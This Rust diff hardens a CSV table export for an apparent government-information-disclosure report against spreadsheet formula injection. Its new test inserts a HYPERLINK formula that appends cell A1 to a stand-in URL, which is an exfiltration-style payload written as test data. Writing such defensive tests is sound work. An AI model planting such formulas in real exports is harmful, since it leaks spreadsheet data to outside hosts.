@@ -67,9 +67,12 @@ pub fn table_csv(document: &Value, table: &layout::TableLayout) -> String {
                 break;
             }
             let text = match &cell.kind {
-                GridKind::Value { pointer } => cell_text(document.pointer(pointer)),
+                GridKind::Value { pointer } => match document.pointer(pointer) {
+                    Some(Value::Number(n)) => crate::csv::number(n.as_str()),
+                    other => crate::csv::text(&cell_text(other)),
+                },
                 GridKind::Empty => String::new(),
-                _ => cell.label.map(|l| l.get(Lang::Zh).to_string()).unwrap_or_default(),
+                _ => crate::csv::text(cell.label.map(|l| l.get(Lang::Zh)).unwrap_or_default()),
             };
             for dr in 0..cell.rowspan as usize {
                 for dc in 0..cell.colspan as usize {
@@ -83,19 +86,11 @@ pub fn table_csv(document: &Value, table: &layout::TableLayout) -> String {
     }
     let mut out = String::from("\u{feff}");
     for row in grid {
-        let fields: Vec<String> = row.into_iter().map(|f| csv_field(&f.unwrap_or_default())).collect();
+        let fields: Vec<String> = row.into_iter().map(Option::unwrap_or_default).collect();
         out.push_str(&fields.join(","));
         out.push_str("\r\n");
     }
     out
-}
-
-fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text.to_string()
-    }
 }
 
 #[cfg(test)]
@@ -116,6 +111,26 @@ mod tests {
         assert!(lines.iter().any(|l| l.starts_with(",（七）总计,,1,")), "{lines:#?}");
         // 申请人情况 spans seven columns: its text once, then empties.
         assert!(lines[0].contains("申请人情况,,,,,,"));
-        assert_eq!(csv_field("a,\"b\""), "\"a,\"\"b\"\"\"");
+    }
+
+    #[test]
+    fn a_cell_that_looks_like_a_formula_is_text_and_numbers_stay_numbers() {
+        let mut loaded = crate::load(crate::BUILTIN_SAMPLE.as_bytes());
+        let document = loaded.document.as_mut().unwrap();
+        let text = crate::json::parse(r#""=HYPERLINK(\"http://x\"&A1,\"click\")""#).unwrap().value;
+        let minus = crate::json::parse("-3").unwrap().value;
+        if let Some(Value::Object(row)) = document.pointer_mut("/applications/received") {
+            row.insert("natural_person", text);
+            row.insert("commercial", minus);
+        }
+        let loaded = crate::load_value(loaded.document.unwrap());
+        let report = loaded.report.as_ref().unwrap();
+        let tables = layout::tables(report.template, report.other_shape);
+        let csv = table_csv(loaded.document.as_ref().unwrap(), &tables[1]);
+        let received = csv.split("\r\n").find(|l| l.starts_with("一、本年新收")).unwrap();
+        assert_eq!(
+            received,
+            "一、本年新收政府信息公开申请数量,,,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",-3,0,0,0,0,1"
+        );
     }
 }
